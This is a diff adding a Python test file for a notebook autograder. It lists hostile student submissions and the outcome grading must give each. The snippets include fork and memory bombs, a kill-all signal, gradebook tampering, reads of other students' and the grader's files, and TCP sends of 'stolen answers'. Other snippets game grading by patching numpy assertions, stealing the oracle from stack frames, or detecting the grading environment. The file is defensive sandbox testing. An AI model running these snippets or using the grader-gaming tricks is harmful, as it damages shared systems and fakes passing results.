@@ -1,0 +1,416 @@
+"""Hostile or broken submissions of 01_softmax, each with the outcome grading must give it.
+
+Every case is built from the current source notebook (its grade ids are read, not hard-coded):
+the first exercise's solution is replaced, a cell is inserted, metadata is altered, or raw bytes
+are written. "Full marks" means what the honest source notebook scores (the witness). Expected
+outcomes, per test cell:
+- `cheat`: the attacked exercise's test cells earn 0; every other test cell keeps full marks,
+  unless `honest="any"` (the attack also breaks the student's own kernel or notebook);
+- `harmless`: the attack fails quietly (a sandbox wall, an interrupted loop): full marks everywhere;
+- `killer`: the cell inserted after the first test cell ends the kernel: the test cells before it
+  keep full marks, every test cell after it scores 0, and the reason is recorded;
+- `survives`: as `killer`, but whether the later cells still run is not promised;
+- `rejected`: not a gradable notebook (or one nbgrader refuses): no point anywhere, a reason recorded.
+A successful attack prints BREACH; no graded notebook may show it.
+"""
+import copy
+import json
+import re
+from dataclasses import dataclass
+
+import nbformat
+from nbformat.v4 import new_code_cell
+
+from course.sample_class import exercise_of, grade_id, notebooks, solution_ids
+
+ASSIGNMENT = "01_softmax"
+
+
+@dataclass
+class Context:
+    course: str  # absolute path of the course copy being graded
+    port: int  # a TCP port the test listens on
+    witness: str  # the honest student whose grades must not change
+
+    def __post_init__(self):
+        self.source = notebooks(ASSIGNMENT)
+        self.release = notebooks(ASSIGNMENT, "release")
+        self.exercise = solution_ids(self.source)[0]
+        self.name = next(n for n, nb in self.source.items() if any(grade_id(c) == self.exercise for c in nb.cells))
+        cell = next(c for c in self.source[self.name].cells if grade_id(c) == self.exercise)
+        self.fn = re.search(r"def (\w+)", cell.source).group(1)
+        self.tests = [grade_id(c) for nb in self.source.values() for c in nb.cells
+                      if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"]
+        self.attacked = [t for t in self.tests if exercise_of(t, solution_ids(self.source)) == self.exercise]
+
+    def copy(self):
+        return copy.deepcopy(self.source)
+
+    def cells(self, nbs=None):
+        return (nbs or self.source)[self.name].cells
+
+
+@dataclass
+class Case:
+    name: str
+    kind: str  # cheat | harmless | killer | survives | rejected
+    build: object  # Context -> {file name: notebook or bytes}
+    what: str
+    honest: str = "kept"  # or "any": the other exercises' marks are not promised
+
+
+# ---------------------------------------------------------------- ways to build a submission
+def solution(code):
+    """The first exercise's solution cell replaced by `code` ({fn} is the function's name)."""
+    def build(ctx):
+        nbs = ctx.copy()
+        for cell in ctx.cells(nbs):
+            if grade_id(cell) == ctx.exercise:
+                cell.source = code.format(fn=ctx.fn, course=ctx.course, port=ctx.port, witness=ctx.witness)
+        return nbs
+    return build
+
+
+def inserted(code, after="first test"):
+    """A new (ungraded) code cell after the first test cell, or after the setup cell."""
+    def build(ctx):
+        nbs = ctx.copy()
+        cells = ctx.cells(nbs)
+        if after == "first test":
+            index = next(i for i, c in enumerate(cells) if grade_id(c) == ctx.tests[0]) + 1
+        else:
+            index = next(i for i, c in enumerate(cells) if c.cell_type == "code") + 1
+        cells.insert(index, new_code_cell(code.format(course=ctx.course, port=ctx.port, witness=ctx.witness)))
+        return nbs
+    return build
+
+
+def stub_and(tamper):
+    """The release stub as the answer (it earns nothing honestly), plus a change to the cells."""
+    def build(ctx):
+        nbs = ctx.copy()
+        stub = next(c for c in ctx.cells(ctx.release) if grade_id(c) == ctx.exercise)
+        for cell in ctx.cells(nbs):
+            if grade_id(cell) == ctx.exercise:
+                cell.source = stub.source
+        tamper(ctx, ctx.cells(nbs))
+        return nbs
+    return build
+
+
+def attacked_tests(ctx, cells):
+    return [c for c in cells if grade_id(c) in ctx.attacked]
+
+
+def raw(make):
+    return lambda ctx: {ctx.name: make(ctx)}
+
+
+# ---------------------------------------------------------------- tampering with cells
+def edit_tests(ctx, cells):
+    for cell in attacked_tests(ctx, cells):
+        cell.source = "1.0"
+
+
+def raise_points(ctx, cells):
+    for cell in attacked_tests(ctx, cells):
+        cell.source, cell.metadata.nbgrader["points"] = "pass", 1000
+
+
+def rename_ids(ctx, cells):
+    for cell in attacked_tests(ctx, cells):
+        cell.source, cell.metadata.nbgrader["grade_id"] = "pass", grade_id(cell) + "_mine"
+
+
+def delete_tests(ctx, cells):
+    for cell in attacked_tests(ctx, cells):
+        cells.remove(cell)
+
+
+def duplicate_tests(ctx, cells):
+    for cell in attacked_tests(ctx, cells):
+        twin = copy.deepcopy(cell)
+        twin.source = "pass"
+        cells.insert(cells.index(cell), twin)
+
+
+def reorder(ctx, cells):
+    """Tests first, so that they run before the stub is defined."""
+    tests = attacked_tests(ctx, cells)
+    for cell in tests:
+        cells.remove(cell)
+    cells[0:0] = tests
+
+
+def strip_metadata(ctx, cells):
+    for cell in cells:
+        cell.metadata.pop("nbgrader", None)
+        if grade_id(cell) is None and "expect_close" in cell.source:
+            cell.source = "pass"
+
+
+def tests_to_markdown(ctx, cells):
+    for cell in attacked_tests(ctx, cells):
+        cell.cell_type, cell.source = "markdown", "no test here"
+        cell.pop("outputs", None)
+        cell.pop("execution_count", None)
+
+
+def solution_as_test(ctx, cells):
+    """The answer cell turned into a graded cell worth 100 points that prints success."""
+    for cell in cells:
+        if grade_id(cell) == ctx.exercise:
+            cell.source += "\n1.0"
+            cell.metadata.nbgrader.update(grade=True, points=100)
+
+
+def fake_outputs(ctx, cells):
+    for cell in attacked_tests(ctx, cells):
+        cell.outputs = [nbformat.v4.new_output("execute_result", data={"text/plain": "1.0"}, execution_count=1)]
+
+
+# ---------------------------------------------------------------- raw files
+def half_json(ctx):
+    text = nbformat.writes(ctx.source[ctx.name])
+    return text[: len(text) // 2].encode()
+
+
+def not_utf8(ctx):
+    return nbformat.writes(ctx.source[ctx.name]).replace("softmax", "softmax 软最大").encode("gb18030")
+
+
+def renamed(ctx):
+    return {"Softmax (1).ipynb": ctx.source[ctx.name]}
+
+
+def extra_files(ctx):
+    nbs = ctx.copy()
+    nbs["gradebook.db"] = b"not a database"
+    nbs["notes.txt"] = "我的笔记 / my notes\n"
+    return nbs
+
+
+# ---------------------------------------------------------------- student code
+LOOP = "while True:\n    pass"
+IGNORE_SIGINT = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
+SWALLOW_INTERRUPT = ("import time\nwhile True:\n    try:\n        time.sleep(0.1)\n"
+                     "    except KeyboardInterrupt:\n        pass")
+IN_SOLUTION_LOOP = ("import signal\ndef {fn}(*args, **kwargs):\n    signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
+                    "    while True:\n        pass")
+FORK_BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
+MEMORY_BOMB = "hog = [b'x' * 10**8 for _ in range(1000)]"
+NUMPY_BOMB = "import numpy as np\nhog = np.ones((10**6, 10**6))"
+HOLD_MEMORY = "hog = []\ntry:\n    while True:\n        hog.append(b'x' * 10**7)\nexcept MemoryError:\n    pass"
+MILLION_LINES = "for i in range(10**6):\n    print(i, 'spam ' * 5)"
+HUGE_LINE = "print('x' * 300_000_000)"
+
+WRITE_GRADEBOOK = """
+import sqlite3
+for path in ['{course}/gradebook.db', '../../../gradebook.db']:
+    try:
+        with open(path, 'r+b') as f:
+            if f.read(15) == b'SQLite format 3':
+                f.seek(0, 2)
+                f.write(b'garbage')
+                print('BREACH: wrote', path)
+    except OSError:
+        pass
+    try:
+        db = sqlite3.connect(f'file:{{path}}?mode=rw', uri=True)
+        db.execute("update grade set manual_score = 100")
+        db.commit()
+        print('BREACH: updated', path)
+    except sqlite3.Error:
+        pass
+"""
+READ_HIDDEN = """
+import glob
+paths = ['{course}/gradebook.db', '../../../gradebook.db', '{course}/source/01_softmax/softmax.ipynb',
+         '../../../source/01_softmax/softmax.ipynb', *glob.glob('*.ipynb'),
+         *glob.glob('{course}/**/*.ipynb', recursive=True), *glob.glob('/tmp/**/*.ipynb', recursive=True)]
+for path in paths:
+    try:
+        data = open(path, 'rb').read()
+    except OSError:
+        continue
+    if b'HIDDEN' in data or b'_oracle' in data:
+        print('BREACH: hidden tests in', path)
+"""
+OTHER_STUDENT = """
+import os
+for folder in ['../../{witness}/01_softmax', '{course}/autograded/{witness}/01_softmax',
+               '../../../submitted/{witness}/01_softmax', '{course}/submitted/{witness}/01_softmax']:
+    try:
+        print('BREACH: listed', folder, os.listdir(folder))
+    except OSError:
+        pass
+    try:
+        open(os.path.join(folder, 'pwned.txt'), 'w').write('pwned')
+        print('BREACH: wrote into', folder)
+    except OSError:
+        pass
+"""
+NETWORK = """
+import socket
+for address in [('127.0.0.1', {port}), ('1.1.1.1', 53), ('8.8.8.8', 443)]:
+    try:
+        socket.create_connection(address, timeout=2).send(b'stolen answers')
+        print('BREACH: connected to', address)
+    except OSError:
+        pass
+"""
+GRADER_ENV = """
+import os
+if 'NBGRADER_EXECUTION' in os.environ or any('nbgrader' in v for v in os.environ.values()):
+    print('BREACH: the kernel can tell it is being graded')
+"""
+GRADER_HOME = """
+import os
+for home in ['/root', '/home', os.path.expanduser('~')]:
+    try:
+        for name in os.listdir(home):
+            path = os.path.join(home, name)
+            if os.path.isfile(path):
+                open(path, 'rb').read(1)
+                print('BREACH: read', path)
+    except OSError:
+        pass
+"""
+KILL_EVERYTHING = "import os, signal\nos.kill(-1, signal.SIGKILL)"
+SEGFAULT = "import ctypes\nctypes.string_at(0)"
+
+EQUAL_TO_ANYTHING = """
+import numpy as np
+class Anything(np.ndarray):
+    def __eq__(self, other): return True
+    def __sub__(self, other): return np.zeros(np.shape(other))
+    __rsub__ = __sub__
+class Whatever:
+    def __eq__(self, other): return True
+    def __array__(self, *a, **k): raise TypeError
+def {fn}(x, *args, **kwargs):
+    return Whatever() if np.ndim(x) > 1 else np.zeros(np.shape(x)).view(Anything)
+"""
+PATCH_NUMPY = """
+import numpy as np
+np.allclose = np.array_equal = lambda *a, **k: True
+np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)
+np.testing.assert_allclose = lambda *a, **k: None
+np.abs = np.absolute = lambda x: np.zeros(np.shape(x))
+np.isfinite = lambda x: np.ones(np.shape(x), bool)
+def {fn}(x, *args, **kwargs):
+    return np.full(np.shape(x), 0.5)
+"""
+PATCH_BUILTINS = """
+import builtins, numpy as np
+builtins.isinstance = lambda *a: True
+builtins.abs = lambda x: 0
+builtins.max = lambda *a, **k: 0
+def {fn}(x, *args, **kwargs):
+    return np.full(np.shape(x), 0.5)
+"""
+PATCH_CHECKS = """
+import numpy as np
+import course.checks as checks
+def lie(target, payload):
+    from IPython.display import display
+    display({{checks.MIME: {{'value': checks.encode(np.ones(3) / 3), 'error': None, 'warnings': [], 'modified': []}}}}, raw=True)
+checks.serve = lie
+checks.expect_close = checks.expect = checks.partial_credit = lambda *a, **k: None
+def {fn}(x, *args, **kwargs):
+    return np.ones(np.shape(x)) / 3
+"""
+STEAL_FRAMES = """
+import gc, inspect, sys, numpy as np
+def {fn}(x, *args, **kwargs):
+    frame = sys._getframe(1)
+    while frame is not None:
+        for name, value in {{**frame.f_globals, **frame.f_locals}}.items():
+            if name in ('expected', '_oracle', 'oracle') or name.startswith('expect'):
+                if callable(value):
+                    try:
+                        return value(x, *args)
+                    except Exception:
+                        pass
+                elif isinstance(value, np.ndarray) and value.shape == np.shape(x):
+                    return value
+        frame = frame.f_back
+    for obj in gc.get_objects():
+        if inspect.isfunction(obj) and obj.__name__ == '_oracle':
+            return obj(x, kwargs.get('axis', -1))
+    return np.zeros(np.shape(x))
+"""
+DETECT_GRADING = """
+import os, numpy as np
+GRADING = 'NBGRADER_EXECUTION' in os.environ
+def {fn}(x, *args, **kwargs):
+    # right only while graded, wrong for the student: the kernel must not be able to tell
+    if GRADING:
+        x = np.asarray(x, dtype=float)
+        e = np.exp(x - x.max(axis=kwargs.get('axis', -1), keepdims=True))
+        return e / e.sum(axis=kwargs.get('axis', -1), keepdims=True)
+    return np.zeros(np.shape(x))
+"""
+BASE_EXCEPTION = "class Escape(BaseException):\n    pass\nraise Escape('out of the cell')"
+RAISE_IN_SOLUTION = """
+class Escape(BaseException):
+    pass
+def {fn}(*args, **kwargs):
+    raise Escape('no answer, no error either')
+"""
+
+CASES = [
+    # time
+    Case("infinite-loop", "harmless", inserted(LOOP), "a loop the timeout interrupts; the kernel lives on"),
+    Case("loop-ignoring-sigint", "killer", inserted(IGNORE_SIGINT), "SIGINT ignored: killed after the grace period"),
+    Case("loop-swallowing-interrupt", "killer", inserted(SWALLOW_INTERRUPT), "KeyboardInterrupt caught and ignored"),
+    Case("loop-in-answer", "cheat", solution(IN_SOLUTION_LOOP), "the function never returns: killed", honest="any"),
+    # exits and crashes
+    Case("os-exit", "killer", inserted("import os\nos._exit(0)"), "os._exit ends the kernel"),
+    Case("sys-exit", "harmless", inserted("import sys\nsys.exit(3)"), "IPython turns SystemExit into an error"),
+    Case("base-exception", "harmless", inserted(BASE_EXCEPTION), "a BaseException subclass raised in a cell"),
+    Case("base-exception-in-answer", "cheat", solution(RAISE_IN_SOLUTION), "the function raises a BaseException"),
+    Case("segfault", "killer", inserted(SEGFAULT), "a segmentation fault"),
+    Case("kill-all", "harmless", inserted(KILL_EVERYTHING), "kill(-1, SIGKILL) finds nothing else in its sandbox"),
+    # resources
+    Case("memory-bomb", "harmless", inserted(MEMORY_BOMB), "100 MB strings until MemoryError"),
+    Case("numpy-memory-bomb", "harmless", inserted(NUMPY_BOMB), "an 8 TB array"),
+    Case("memory-hog", "survives", inserted(HOLD_MEMORY), "keeps all the memory it can get"),
+    Case("fork-bomb", "survives", inserted(FORK_BOMB), "forks until the process cap"),
+    Case("million-lines", "harmless", inserted(MILLION_LINES), "a million printed lines"),
+    Case("huge-line", "survives", inserted(HUGE_LINE), "one 300 MB line"),
+    # walls
+    Case("write-gradebook", "harmless", inserted(WRITE_GRADEBOOK, after="setup"), "append to and update gradebook.db"),
+    Case("read-hidden-tests", "harmless", inserted(READ_HIDDEN, after="setup"),
+         "hidden tests from gradebook.db, source/ or its own graded notebook"),
+    Case("other-student", "harmless", inserted(OTHER_STUDENT, after="setup"), "list and write the witness's folders"),
+    Case("network", "harmless", inserted(NETWORK, after="setup"), "TCP to the grader's machine and the internet"),
+    Case("grader-env", "harmless", inserted(GRADER_ENV, after="setup"), "look for NBGRADER_EXECUTION"),
+    Case("grader-home", "harmless", inserted(GRADER_HOME, after="setup"), "read files in the grader's home"),
+    # values
+    Case("equal-to-anything", "cheat", solution(EQUAL_TO_ANYTHING), "objects whose == is always True"),
+    Case("patch-numpy", "cheat", solution(PATCH_NUMPY), "np.allclose and friends replaced in the kernel"),
+    Case("patch-builtins", "cheat", solution(PATCH_BUILTINS), "isinstance, abs, max replaced in the kernel",
+         honest="any"),
+    Case("patch-course-checks", "cheat", solution(PATCH_CHECKS), "the kernel's course.checks replaced", honest="any"),
+    Case("steal-from-frames", "cheat", solution(STEAL_FRAMES), "callers' frames and gc searched for the oracle"),
+    Case("detect-grading", "cheat", solution(DETECT_GRADING), "right only when NBGRADER_EXECUTION is set"),
+    # notebook structure (the release stub as answer: any point would be a successful cheat)
+    Case("edit-tests", "cheat", stub_and(edit_tests), "test cells replaced by `1.0`"),
+    Case("raise-points", "cheat", stub_and(raise_points), "test cells worth 1000 points that pass"),
+    Case("rename-grade-ids", "rejected", stub_and(rename_ids), "test cells given new grade ids"),
+    Case("delete-tests", "cheat", stub_and(delete_tests), "test cells deleted"),
+    Case("duplicate-tests", "rejected", stub_and(duplicate_tests), "passing copies placed before the test cells"),
+    Case("reorder-tests", "cheat", stub_and(reorder), "test cells moved to the top"),
+    Case("strip-metadata", "cheat", stub_and(strip_metadata), "all nbgrader metadata removed", honest="any"),
+    Case("tests-to-markdown", "cheat", stub_and(tests_to_markdown), "test cells turned into markdown"),
+    Case("answer-as-test", "rejected", stub_and(solution_as_test), "the answer cell made a 100-point test"),
+    Case("fake-outputs", "cheat", stub_and(fake_outputs), "test cells carry passing outputs"),
+    # files
+    Case("invalid-json", "rejected", raw(half_json), "a notebook cut in half"),
+    Case("empty-file", "rejected", raw(lambda ctx: b""), "an empty file"),
+    Case("not-utf8", "rejected", raw(not_utf8), "the notebook saved in GB18030"),
+    Case("wrong-name", "rejected", renamed, "the notebook under another name"),
+    Case("no-notebook", "rejected", lambda ctx: {"README.txt": "忘了 / forgot"}, "no notebook at all"),
+    Case("extra-files", "harmless", extra_files, "an honest notebook next to a fake gradebook.db"),
+]
